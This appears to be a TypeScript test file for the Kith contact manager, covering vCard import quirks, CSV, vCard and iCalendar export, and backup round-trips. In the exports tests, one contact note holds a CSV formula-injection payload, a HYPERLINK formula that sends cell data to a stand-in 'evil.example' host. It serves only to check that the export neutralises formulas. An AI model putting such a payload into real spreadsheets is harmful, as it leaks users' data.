      phones: ['+46-8-123-456'],
      company: 'Nordic AB',
      notes: 'Long note that goes onand on',
    });
  });

  it('reads 2.1 as phones and older Outlook write it: bare types, quoted-printable in a charset, base64 photos', () => {
    const text = [
      'BEGIN:VCARD',
      'VERSION:2.1',
      'N;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:M=C3=BCller;J=C3=BCrgen;;;',
      'FN;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:J=C3=BCrgen M=C3=BC=',
      'ller',
      'TEL;CELL;VOICE:+49 170 1234567',
      'EMAIL;PREF;INTERNET:Juergen@Example.de',
      'ORG:Acme GmbH;Research',
      'ADR;WORK;QUOTED-PRINTABLE:;;Stra=C3=9Fe 1;Berlin;;10115;Germany',
      'PHOTO;ENCODING=BASE64;JPEG:/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsLDBkSEw8U',
      '  HRofHh0aHBwgJC4nICIsIxwcKDcpLDAxNDQ0Hyc5PTgyPC4zNDL/2wBDAQkJCQwLDBgNDRgy',
      'IRwhMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjL/wAAR',
      '',
      'NOTE;ENCODING=QUOTED-PRINTABLE:Met at the =E2=80=9CFuture of Work=E2=80=9D panel=0D=0AFollow up=',
      ' in May',
      'END:VCARD',
      'BEGIN:VCARD',
      'VERSION:2.1',
      'FN;CHARSET=ISO-8859-1;ENCODING=QUOTED-PRINTABLE:Fran=E7ois Ch=E2teau',
      'EMAIL;INTERNET:francois@example.fr',
      'END:VCARD',
    ].join('\r\n');
    const batch = parseImport(text, NOW);
    expect(batch.invalid).toEqual([]);
    expect(batch.contacts.map((c) => c.where)).toEqual(['Card 1 (line 1)', 'Card 2 (line 17)']);
    expect(batch.contacts[0].contact).toMatchObject({
      name: 'Jürgen Müller',
      phones: ['+49 170 1234567'],
      emails: ['juergen@example.de'],
      company: 'Acme GmbH',
      addresses: ['Straße 1, Berlin, 10115, Germany'],
      notes: 'Met at the \u201cFuture of Work\u201d panel\nFollow up in May\n\nDepartment: Research',
    });
    expect(batch.contacts[1].contact).toMatchObject({ name: 'François Château', emails: ['francois@example.fr'] });
  });

  it('reads Outlook’s 2.1 quoted-printable without a charset as Windows-1252, skips blank lines and groups', () => {
    const text = [
      'BEGIN:VCARD',
      'VERSION:2.1',
      'FN:Ann Lee',
      'EMAIL;TYPE=INTERNET:ann@lee.com',
      'EMAIL;TYPE=INTERNET:',
      'TEL;CELL:',
      'NOTE;ENCODING=QUOTED-PRINTABLE:Mag Fu=DFball und Caf=E9.=0D=0AKennt J=FCrgen.',
      'END:VCARD',
      'BEGIN:VCARD',
      'VERSION:3.0',
      'FN:Book club',
      'X-ADDRESSBOOKSERVER-KIND:group',
      'X-ADDRESSBOOKSERVER-MEMBER:urn:uuid:5C7E4E8F-1234-4ABC-9DEF-0123456789AB',
      'END:VCARD',
    ].join('\r\n');
    const batch = parseImport(text, NOW);
    expect(batch.invalid).toEqual([]);
    expect(batch.contacts.map(({ contact }) => [contact.emails, contact.phones, contact.notes])).toEqual([[['ann@lee.com'], [], 'Mag Fußball und Café.\nKennt Jürgen.']]);
    expect(batch.skipped).toEqual([{ where: 'Card 2 (line 9)', reason: 'a group of contacts, not a person' }]);
  });

  it('keeps a note whole where its writer left commas unescaped (Android, Outlook 2.1, many 3.0 writers)', () => {
    const card = (...lines: string[]) => ['BEGIN:VCARD', ...lines, 'END:VCARD'].join('\r\n');
    const text = [
      card('VERSION:3.0', 'FN:Bo Lind', 'NOTE:Met at SXSW, Austin. Intro to Cy, then lunch.'),
      card(
        'VERSION:2.1',
        'FN:Wang',
        'NOTE;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:=E7=AC=AC=E4=B8=80=E8=A1=8C=0D=0A=E7=AC=AC=E4=BA=8C=E8=A1=8C, met in Sh=',
        'anghai, likes tea=E3=80=82',
      ),
      card('VERSION:4.0', 'FN:Cy', 'NOTE:Escaped\\, and not, both kept'),
    ].join('\r\n');
    expect(parseImport(text, NOW).contacts.map(({ contact }) => contact.notes)).toEqual([
      'Met at SXSW, Austin. Intro to Cy, then lunch.',
      '第一行\n第二行, met in Shanghai, likes tea。',
      'Escaped, and not, both kept',
    ]);
  });

  it('reads Apple’s escaped colons in links, keeps the work site and other pages in the notes, and leaves out Google’s own groups', () => {
    const text = [
      'BEGIN:VCARD',
      'VERSION:3.0',
      'FN:Ada Quinlan',
      'item1.URL;type=pref:http\\://www.adaq.dev',
      'item1.X-ABLabel:_$!<HomePage>!$_',
      'URL;TYPE=WORK:https://www.acme.com',
      'X-SOCIALPROFILE;type=linkedin;x-user=adaq:http\\://www.linkedin.com/in/adaq',
      'CATEGORIES:myContacts,starred,Friends',
      'END:VCARD',
      'BEGIN:VCARD',
      'VERSION:2.1',
      'FN:Bo Lind',
      'URL;WORK:http://www.acme.com',
      'URL;HOME:http://bo.example',
      'END:VCARD ',
    ].join('\r\n');
    const batch = parseImport(text, NOW);
    expect(batch.invalid).toEqual([]);
    expect(batch.contacts.map(({ contact }) => [contact.name, contact.profileUrl, contact.notes, contact.tags])).toEqual([
      ['Ada Quinlan', 'https://www.linkedin.com/in/adaq/', 'Web page: http://www.adaq.dev\nWork web page: https://www.acme.com', ['Friends']],
      ['Bo Lind', 'http://bo.example/', 'Work web page: http://www.acme.com', []],
    ]);
  });

  it('reads a card whose BEGIN and END lines were left with spaces after them', () => {
    const text = ['BEGIN:VCARD  ', 'VERSION:3.0', 'FN:Ada', 'END:VCARD ', 'BEGIN:VCARD', 'VERSION:3.0', 'FN:Bo', 'END:VCARD\t'].join('\r\n');
    expect(parseImport(text, NOW).contacts.map(({ contact }) => contact.name)).toEqual(['Ada', 'Bo']);
  });

  it('still names the right line after 2.1 soft line breaks and blobs', () => {
    const text = [
      'BEGIN:VCARD',
      'VERSION:2.1',
      'FN;ENCODING=QUOTED-PRINTABLE:A=',
      'da',
      'PHOTO;BASE64:AAAA',
      'BBBB',
      '',
      'FN Missing colon',
      'END:VCARD',
    ].join('\n');
    expect(thrown(() => parseImport(text, NOW)).message).toBe('Line 8: not a vCard property (NAME:value)');
  });

  it('names the line of a broken property and of a card that never ends', () => {
    const broken = 'BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Ok\r\nEND:VCARD\r\nBEGIN:VCARD\r\nVERSION:4.0\r\nFN Missing colon\r\nEND:VCARD\r\n';
    expect(thrown(() => parseImport(broken, NOW)).message).toBe('Line 7: not a vCard property (NAME:value)');
    const unended = 'BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Ok\r\n';
    expect(thrown(() => parseImport(unended, NOW)).message).toBe('Line 1: the card that starts here never ends (no END:VCARD)');
  });

  it('names a card without FN or N by what it has, and skips one with nothing to name anyone by', () => {
    const card = (...lines: string[]) => ['BEGIN:VCARD', 'VERSION:3.0', ...lines, 'END:VCARD'].join('\r\n');
    const text = [
      card('EMAIL:a@b.co'),
      card('N:;;;;', 'TEL;TYPE=CELL:+1 555 0100'),
      card('ORG:Northwind Plumbing', 'TEL:+1 555 0111'),
      card('NOTE:only a note'),
      card('FN:Ada Quinlan'),
    ].join('\r\n');
    const batch = parseImport(text, NOW);
    expect(batch.invalid).toEqual([]);
    expect(batch.contacts.map(({ contact }) => contact.name)).toEqual(['a@b.co', '+1 555 0100', 'Northwind Plumbing', 'Ada Quinlan']);
    expect(batch.skipped).toEqual([{ where: 'Card 4 (line 15)', reason: 'no name, email, phone, company or website' }]);
  });

  it("keeps a card's UID as its id only when it is a UUID, as Kith writes them: other tools number their cards", () => {
    const kithId = '7d0c2a9e-4f1b-4c3a-9e2d-5b6a7c8d9e0f';
    const text = [
      `BEGIN:VCARD\r\nVERSION:3.0\r\nUID:1\r\nFN:Frank Zed\r\nEND:VCARD`,
      `BEGIN:VCARD\r\nVERSION:4.0\r\nUID:urn:uuid:${kithId}\r\nFN:Eve Adams\r\nEND:VCARD`,
    ].join('\r\n');
    const [frank, eve] = parseImport(text, NOW).contacts.map(({ contact }) => contact);
    expect(frank.id).not.toBe('1');
    expect(frank.id).toMatch(/^[0-9a-f-]{36}$/);
    expect(eve.id).toBe(kithId);
  });

  it('exports 4.0 that reads back to the same contacts', () => {
    const contacts = [
      contactOf({
        id: '0b5f8e2c-3d4a-4e6f-8a1b-2c3d4e5f6a7b',
        name: 'Jane; Doe, Jr\\',
        title: 'VP, Sales; EMEA',
        company: 'Acme, Inc.',
        // Kith's own property, which ical.js does not unescape: a comma as most locations have.
        location: 'Paris, Île-de-France; France \\ HQ',
        emails: ['jane@acme.com', 'j@doe.org'],
        phones: ['+33 1 23 45 67 89'],
        addresses: ['1 Rue de Rivoli, Paris'],
        profileUrl: 'https://www.linkedin.com/in/jane/',
        tags: ['mentor', 'paris, fr'],
        notes: `Line one\nLine two with émoji 🎉 ${'and more '.repeat(20)}`,
      }),
    ];
    const out = exportVcards(contacts);
    for (const line of out.split('\r\n').slice(0, -1)) expect(new TextEncoder().encode(line).length).toBeLessThanOrEqual(75);
    expect(out.endsWith('END:VCARD\r\n')).toBe(true);
    expect(out).toContain('FN:Jane\\; Doe\\, Jr\\\\\r\n');
    const back = parseImport(out, NOW).contacts[0].contact;
    for (const field of ['id', 'name', 'title', 'company', 'location', 'emails', 'phones', 'addresses', 'profileUrl', 'tags', 'notes'] as const) {
      expect(back[field]).toEqual(contacts[0][field]);
    }
  });
  it('reads back its own export of text with semicolons, commas, colons, quotes and carets in every field', () => {
    const contact = contactOf({
      id: 'c1',
      name: 'Ana "AJ" O’Neil; Jr: PhD, MBA',
      title: 'Head: "Growth"; EMEA, APAC',
      company: 'Acme; "Labs": North, Ltd',
      addresses: ['Line; with; semicolons', '12 "The Old Mill": Unit 3, Leeds; UK', 'Caret ^ and ^^ and ^\' and back\\slash'],
      tags: ['a; b', 'c: "d"'],
      notes: 'Said: "call me"; soon, maybe\nNext: ^n stays as typed',
    });
    const out = exportVcards([contact]);
    expect(out).toContain('ADR;LABEL="Line; with; semicolons":;;Line\\; with\\; semicolons;;;;\r\n');
    const batch = parseImport(out, NOW);
    expect(batch.invalid).toEqual([]);
    const back = batch.contacts[0].contact;
    for (const field of ['name', 'title', 'company', 'addresses', 'tags', 'notes'] as const) expect(back[field]).toEqual(contact[field]);
  });

  it('reads back its own export of any text, backslashes and escape-like sequences included', () => {
    // Characters that vCard escaping and ical.js treat specially, beside plain ones.
    const tricky = fc.string({ unit: fc.constantFrom('\\', ';', ',', 'n', 'N', ':', '"', '^', "'", 'a', ' ', '\n'), minLength: 1, maxLength: 12 });
    fc.assert(
      fc.property(tricky, tricky, tricky, tricky, fc.array(tricky, { maxLength: 3 }), fc.array(tricky, { maxLength: 3 }), (name, company, title, notes, addresses, tags) => {
        const parsed = Contact.safeParse({ id: 'c1', name: `N${name}`, company, title, notes, location: title, addresses, tags, createdAt: NOW, updatedAt: NOW });
        fc.pre(parsed.success);
        const contact = parsed.data!;
        const back = parseImport(exportVcards([contact]), NOW).contacts[0].contact;
        for (const field of ['name', 'company', 'title', 'notes', 'location', 'addresses', 'tags'] as const) expect(back[field]).toEqual(contact[field]);
      }),
      { numRuns: 500 },
    );
  });

  it('keeps a quoted parameter holding ; whole, in 2.1 cards and in files that say 3.0 but are 2.1 inside', () => {
    const text = [
      'BEGIN:VCARD',
      'VERSION:2.1',
      'FN:Jo Bloggs',
      'ADR;HOME;LABEL="Flat 2; 1 High St":;;Flat 2\\; 1 High St;;;;',
      'END:VCARD',
      'BEGIN:VCARD',
      'VERSION:3.0',
      'FN;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:J=C3=BCrgen',
      'TEL;CELL:+49 170 1234567',
      'END:VCARD',
    ].join('\r\n');
    const batch = parseImport(text, NOW);
    expect(batch.invalid).toEqual([]);
    expect(batch.contacts[0].contact.addresses).toEqual(['Flat 2; 1 High St']);
    expect(batch.contacts[1].contact).toMatchObject({ name: 'Jürgen', phones: ['+49 170 1234567'] });
  });
});

describe('exports', () => {
  const jane = contactOf({ id: 'c1', name: 'Jane Doe', company: '=HYPERLINK("x")', emails: ['jane@acme.com'], tags: ['a', 'b'], addresses: ['1 Main St, Leeds', 'Flat 2, 3 High St, York'] });
  const bob = contactOf({ id: 'c2', name: 'Bob, "the" Builder', notes: '=HYPERLINK("https://evil.example/?q="&A2,"Open")\nsecond line', referredBy: 'c1' });

  it('CSV: one row per contact with the last interaction, formulas neutralised', () => {
    const interactions = [
      Interaction.parse({ id: 'i1', contactId: 'c1', at: new Date(2026, 0, 2, 12).getTime(), channel: 'call', summary: 'older' }),
      // Late in the evening, local time: dated that day, whatever the day is in UTC by then.
      Interaction.parse({ id: 'i2', contactId: 'c1', at: new Date(2026, 5, 3, 23, 30).getTime(), channel: 'email', summary: 'Sent CV' }),
    ];
    const csv = exportContactsCsv([jane, bob], interactions);
    // A byte-order mark, so Excel reads the file as UTF-8.
    expect(csv.startsWith('\uFEFFName,')).toBe(true);
    const lines = csv.slice(1).split('\r\n');
    expect(lines[0]).toBe(
      'Name,Title,Company,Location,Emails,Phones,Addresses,Profile URL,Relationship,Warmth,Referred by,Tags,Notes,Last interaction,Last interaction channel,Last interaction summary',
    );
    expect(lines[1]).toBe(`Jane Doe,,"'=HYPERLINK(""x"")",,jane@acme.com,,"1 Main St, Leeds\nFlat 2, 3 High St, York",,Other,cold,,a; b,,2026-06-03,email,Sent CV`);
    // A formula over two lines is a formula too.
    expect(lines[2]).toBe('"Bob, ""the"" Builder",,,,,,,,Other,cold,Jane Doe,,"\'=HYPERLINK(""https://evil.example/?q=""&A2,""Open"")\nsecond line",,,');
    expect(lines).toHaveLength(4);
    expect(lines[3]).toBe('');
  });

  it('CSV: the interaction log, oldest first, one row per interaction, dated in local time', () => {
    const interactions = [
      Interaction.parse({ id: 'i2', contactId: 'c2', at: new Date(2026, 5, 3, 23, 30).getTime(), channel: 'email', summary: '=SUM(1)', gave: ['referrals'] }),
      Interaction.parse({ id: 'i1', contactId: 'c1', at: new Date(2026, 0, 2, 9).getTime(), channel: 'call', summary: 'Intro', received: ['information', 'contacts'], link: 'https://mail.example/t/1' }),
    ];
    expect(exportInteractionsCsv(interactions, [jane, bob]).split('\r\n')).toEqual([
      '\uFEFFDate,Contact,Channel,Summary,Received,Gave,Link',
      '2026-01-02,Jane Doe,call,Intro,information; contacts,,https://mail.example/t/1',
      `2026-06-03,"Bob, ""the"" Builder",email,"'=SUM(1)",,referrals,`,
      '',
    ]);
  });

  it('iCalendar: CRLF, folded at 75 octets, escaped, UTC DTSTAMP, a UID per reminder, open ones only', () => {
    const reminders = [
      Reminder.parse({ id: 'r1', contactId: 'c1', kind: 'promise', dueAt: Date.UTC(2026, 10, 27, 17), note: `Send the deck; slides, notes\n${'x'.repeat(100)}`, createdAt: NOW }),
      Reminder.parse({ id: 'r2', contactId: 'c2', kind: 'follow-up', dueAt: NOW, doneAt: NOW, createdAt: NOW }),
      Reminder.parse({ id: 'r3', contactId: 'c2', kind: 'keep-in-touch', dueAt: NOW, snoozedUntil: Date.UTC(2026, 11, 1, 8, 30), createdAt: NOW }),
    ];
    const ics = exportRemindersIcs(reminders, [jane, bob], NOW);
    expect(ics.startsWith('BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:')).toBe(true);
    expect(ics.endsWith('END:VCALENDAR\r\n')).toBe(true);
    expect(ics.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    for (const line of ics.split('\r\n')) expect(new TextEncoder().encode(line).length).toBeLessThanOrEqual(75);
    const unfolded = ics.replace(/\r\n[ \t]/g, '');
    expect(unfolded).toContain('UID:r1@kith.invalid\r\nDTSTAMP:20261122T090000Z\r\nDTSTART:20261127T170000Z\r\n');
    expect(unfolded).toContain('SUMMARY:Promise to Jane Doe\r\n');
    expect(unfolded).toContain(`DESCRIPTION:Send the deck\\; slides\\, notes\\n${'x'.repeat(100)}\r\n`);
    expect(unfolded).toContain('UID:r3@kith.invalid\r\nDTSTAMP:20261122T090000Z\r\nDTSTART:20261201T083000Z\r\n');
    expect(unfolded).toContain('SUMMARY:Keep in touch with Bob\\, "the" Builder\r\n');
    expect(unfolded).not.toContain('r2@kith.invalid');
    expect(ics.match(/BEGIN:VEVENT/g)).toHaveLength(2);
  });

  it('iCalendar: a reminder for a day is an all-day event on that date, wherever the calendar is read', () => {
    const dated = Reminder.parse({ id: 'r1', contactId: 'c1', kind: 'follow-up', dueAt: startOfLocalDay('2027-03-28'), createdAt: NOW });
    const unfolded = exportRemindersIcs([dated], [jane], NOW).replace(/\r\n[ \t]/g, '');
    expect(unfolded).toContain('DTSTAMP:20261122T090000Z\r\nDTSTART;VALUE=DATE:20270328\r\nDURATION:P1D\r\n');
  });

  it('folds without splitting a multi-byte character', () => {
    const line = `NOTE:${'é'.repeat(80)}`;
    const folded = foldLine(line);
    const parts = folded.split('\r\n');
    expect(parts.map((p) => new TextEncoder().encode(p).length)).toEqual([75, 75, 17]);
    expect(parts.map((p, i) => (i ? p.slice(1) : p)).join('')).toBe(line);
  });
});

describe('Kith backup', () => {
  it('parses what createBackup writes, record for record', () => {
    const interaction = Interaction.parse({ id: 'i1', contactId: 'c1', at: NOW, channel: 'meeting', summary: 'Coffee', gave: ['information'] });
    const reminder = Reminder.parse({ id: 'r1', contactId: 'c1', kind: 'thank-you', dueAt: NOW, createdAt: NOW });
    const jane = contactOf({ id: 'c1', name: 'Jane', warmth: 'warm', relationship: 'friend', lastInteractionAt: NOW, history: [{ field: 'title', from: 'A', to: 'B', at: NOW }] });
    const batch = parseImport(createBackup({ contacts: [jane], interactions: [interaction], reminders: [reminder] }, NOW), NOW);
    expect(batch.format).toBe('kith-backup');
    expect(batch.contacts.map((c) => c.contact)).toEqual([jane]);
    expect(batch.interactions).toEqual([interaction]);
    expect(batch.reminders).toEqual([reminder]);
  });

  it('keeps the dates of a backup made in another time zone: a follow-up on 3 December is still on 3 December', () => {
    // Made on Kiritimati (UTC+14), a zone no one runs these tests in.
    const kiritimati = (iso: string) => Date.parse(`${iso}T00:00:00+14:00`);
    const madeAt = Date.parse('2026-11-20T15:42:00Z');
    const followUp = Reminder.parse({ id: 'r1', contactId: 'c1', kind: 'follow-up', dueAt: kiritimati('2026-12-03'), snoozedUntil: kiritimati('2026-12-05'), createdAt: madeAt });
    const coffee = Interaction.parse({ id: 'i1', contactId: 'c1', at: kiritimati('2026-11-18'), summary: 'Coffee' });
    const call = Interaction.parse({ id: 'i2', contactId: 'c1', at: madeAt, summary: 'A call at a time of day' });
    const jane = contactOf({ id: 'c1', name: 'Jane', lastInteractionAt: kiritimati('2026-11-18') });
    const backup = createBackup({ contacts: [jane], interactions: [coffee, call], reminders: [followUp] }, NOW, 'Pacific/Kiritimati');
    const batch = parseImport(backup, NOW);
    expect(batch.reminders).toEqual([{ ...followUp, dueAt: startOfLocalDay('2026-12-03'), snoozedUntil: startOfLocalDay('2026-12-05') }]);
    expect(batch.interactions).toEqual([{ ...coffee, at: startOfLocalDay('2026-11-18') }, call]);
    expect(batch.contacts[0].contact.lastInteractionAt).toBe(startOfLocalDay('2026-11-18'));
    // Made in this zone, or before backups said their zone, or saying something else, the times are read as written.
    expect(parseImport(createBackup({ contacts: [jane], interactions: [coffee], reminders: [followUp] }, NOW), NOW).reminders).toEqual([followUp]);
    for (const zone of [null, 5, 'Not/AZone']) {
      const odd = JSON.stringify({ ...JSON.parse(backup), timeZone: zone });
      expect(parseImport(odd, NOW).reminders, String(zone)).toEqual([followUp]);
    }
  });

  it('carries the settings, and reads a backup made before it did without them', () => {
    const settings = Settings.parse({ defaultCadenceDays: 30, notifications: false, weeklyGoal: 5, targets: ['Acme', 'Globex'] });
    expect(parseImport(createBackup({ contacts: [], interactions: [], reminders: [], settings }, NOW), NOW).settings).toEqual(settings);
    const old = JSON.stringify({ format: 'kith-backup', version: 1, contacts: [{ id: 'c1', name: 'Old', createdAt: 1, updatedAt: 2 }] });
    const batch = parseImport(old, NOW);
    expect(batch.invalid).toEqual([]);
    expect(batch.settings).toBeUndefined();
  });

  it('refuses settings it cannot read, or whose target companies would be cut', () => {
    const withSettings = (settings: unknown) => JSON.stringify({ format: 'kith-backup', version: 1, contacts: [], settings });
    expect(parseImport(withSettings({ defaultCadenceDays: 0 }), NOW).invalid).toEqual([{ where: 'Settings', reason: expect.stringMatching(/^defaultCadenceDays: /) }]);
    expect(parseImport(withSettings({ targets: ['Acme', 't'.repeat(201)] }), NOW).invalid).toEqual([
      { where: 'Settings', reason: 'a target company is 201 characters; Kith keeps up to 200' },
    ]);
  });

  it('fills fields an older backup lacks, and refuses a newer version', () => {
    const old = JSON.stringify({ format: 'kith-backup', version: 1, contacts: [{ id: 'c1', name: 'Old', createdAt: 1, updatedAt: 2 }] });
    expect(parseImport(old, NOW).contacts[0].contact).toMatchObject({ id: 'c1', name: 'Old', emails: [], relationship: 'other', warmth: 'cold', tags: [] });
    const newer = JSON.stringify({ format: 'kith-backup', version: 99, contacts: [] });
    expect(thrown(() => parseImport(newer, NOW)).message).toMatch(/^Line 1: made by a newer Kith/);
  });

  it('names the line of broken JSON and the record of an invalid one', () => {
    const broken = '{\n "format": "kith-backup",\n "version": 1,\n "contacts": [,]\n}';
    expect(thrown(() => parseImport(broken, NOW)).message).toMatch(/^Line 4: not valid JSON/);
    expect(thrown(() => parseImport('{"format": "kith-backup",\n"version": 1,\n"contacts": [1, 2', NOW)).message).toMatch(/^Line 3: not valid JSON/);
    const invalid = JSON.stringify({ format: 'kith-backup', version: 1, contacts: [{ id: 'c1', name: '', createdAt: 1, updatedAt: 1 }], interactions: [{ id: 'i1', contactId: 'nobody', at: 1 }] });
    expect(parseImport(invalid, NOW)).toMatchObject({
      invalid: [{ where: 'Contact 1', reason: 'Name: A contact needs a name' }],
      skipped: [{ where: 'Interaction 1', reason: 'belongs to no contact in the backup' }],
    });
  });

  it('reads values another program wrote for nothing as absent, and names the contact whose records go with it', () => {
    const text = JSON.stringify({
      format: 'kith-backup',
      version: 1,
      contacts: [
        { id: 'c1', name: 'Empty Link', profileUrl: '', title: null, emails: ['', 'ada@q.example'], referredBy: 'c2', notSameAs: ['c2'], createdAt: 1, updatedAt: 1 },
        { id: 'c2', name: 'Bad Email', emails: ['Rosa Lind <rosa@lind.example>'], createdAt: 1, updatedAt: 1 },
      ],
      interactions: [{ id: 'i1', contactId: 'c2', at: 1 }],
      reminders: [{ id: 'r1', contactId: 'c1', kind: 'follow-up', dueAt: 1, createdAt: 1, snoozedUntil: null }],
    });
    const batch = parseImport(text, NOW);
    expect(batch.contacts.map(({ contact }) => [contact.name, contact.profileUrl, contact.title, contact.emails])).toEqual([['Empty Link', undefined, '', ['ada@q.example']]]);
    // Referring to the contact that cannot be imported, it would point at no one if that is left out.
    expect(batch.contacts.map(({ contact }) => [contact.referredBy, contact.notSameAs])).toEqual([[undefined, []]]);
    expect(batch.reminders.map((r) => [r.id, r.snoozedUntil])).toEqual([['r1', undefined]]);
    expect(batch.invalid).toEqual([
      { where: 'Contact 2', reason: 'Email 1: Not an email address: Rosa Lind <rosa@lind.example>' },
      { where: 'Interaction 1', reason: 'belongs to contact 2, which cannot be imported' },
    ]);
  });
});

describe('export speed', () => {
  it('writes 10,000 contacts as CSV, vCard and backup, and their reminders as iCalendar, quickly', () => {
    const contacts = Array.from({ length: 10_000 }, (_, i) =>
      contactOf({ id: `c${i}`, name: `Person ${i}`, title: 'Engineer', company: `Company ${i % 300}`, emails: [`p${i}@example.com`], tags: ['a'], notes: 'Met at a conference; talked about hiring, and more.' }),
    );
    const reminders = contacts.map((c, i) => Reminder.parse({ id: `r${i}`, contactId: c.id, kind: 'keep-in-touch', dueAt: NOW + i, createdAt: NOW }));
    const interactions = contacts.map((c, i) => Interaction.parse({ id: `i${i}`, contactId: c.id, at: NOW - i, summary: 'Coffee' }));
    const timings: Record<string, number> = {};
    const time = (label: string, run: () => string) => {
      const started = performance.now();
      const out = run();
      timings[label] = performance.now() - started;
      return out;
    };
    expect(time('csv', () => exportContactsCsv(contacts, interactions)).split('\r\n')).toHaveLength(10_002);
    expect(time('vcard', () => exportVcards(contacts)).match(/BEGIN:VCARD/g)).toHaveLength(10_000);
    expect(time('ics', () => exportRemindersIcs(reminders, contacts, NOW)).match(/BEGIN:VEVENT/g)).toHaveLength(10_000);
    expect(time('json', () => createBackup({ contacts, interactions, reminders }, NOW)).length).toBeGreaterThan(1_000_000);
    console.info('export of 10k (ms):', JSON.stringify(timings));
    // The budget is 0.5 s each in the browser; this ceiling only catches a quadratic slip on a
    // test machine shared by parallel suites.
    for (const ms of Object.values(timings)) expect(ms).toBeLessThan(5000);
  });
});

describe('foldLine', () => {
  it('folds ASCII at 75 then 74 characters and leaves short lines alone', () => {
    expect(foldLine('SUMMARY:short')).toBe('SUMMARY:short');
    const long = `DESCRIPTION:${'a'.repeat(200)}`;
    const parts = foldLine(long).split('\r\n');
    expect(parts.map((p) => p.length)).toEqual([75, 75, 64]);
    expect(parts.map((p, i) => (i ? p.slice(1) : p)).join('')).toBe(long);
    expect(foldLine('x'.repeat(75))).toBe('x'.repeat(75));
  });
});
